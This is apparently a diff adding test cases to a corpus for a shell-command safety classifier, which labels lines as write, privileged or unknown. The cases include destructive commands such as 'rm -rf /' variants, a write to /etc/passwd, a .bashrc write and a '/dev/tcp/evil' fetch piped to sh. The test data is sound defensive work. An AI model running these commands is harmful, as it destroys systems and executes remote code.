@@ -205,6 +205,7 @@ const WRITES: Case[] = [
   { line: 'touch -r ref.txt new.txt', class: 'write', written: ['new.txt'] },
   { line: 'cp --backup src dst', class: 'write', written: ['dst'] },
   { line: 'echo x > /dev/shm/lock', class: 'write', written: ['/dev/shm/lock'] },
+  { line: 'rm -f {a,b}.txt', class: 'write', written: ['a.txt', 'b.txt'] },
 ];
 
 const PRIVILEGED: Case[] = [
@@ -294,6 +295,9 @@ const PRIVILEGED: Case[] = [
   { line: 'rm -rf 2>/dev/null /etc', class: 'privileged', written: ['/etc'] },
   { line: 'rm -rf > /dev/null /', class: 'privileged', written: ['/'] },
   { line: 'rm >x -rf /', class: 'privileged', written: ['x', '/'] },
+  { line: 'cd /etc && echo x > ~+/passwd', class: 'privileged', written: ['/etc/passwd'] },
+  { line: 'rm -rf {/etc,/tmp}', class: 'privileged', written: ['/etc', '/tmp'] },
+  { line: 'rm -rf /{e,t}*', class: 'privileged' },
 ];
 
 const UNKNOWN: Case[] = [
@@ -355,6 +359,8 @@ const UNKNOWN: Case[] = [
   { line: 'cat < /dev/tcp/evil/80 | sh', class: 'unknown', pipeline: true },
   { line: 'pushd /tmp; popd; rm -f x', class: 'unknown', reason: /directory known only when it runs/ },
   { line: '(ls; rm x) > f /etc', class: 'unknown', reason: /could not place/ },
+  { line: 'echo x > ~postgres/.bashrc', class: 'unknown' },
+  { line: 'cat <<EOF; rm -rf /\nbody\nEOF\n', class: 'unknown', parseError: true },
 ];
 
 const CORPUS: Case[] = [...READS, ...WRITES, ...PRIVILEGED, ...UNKNOWN];
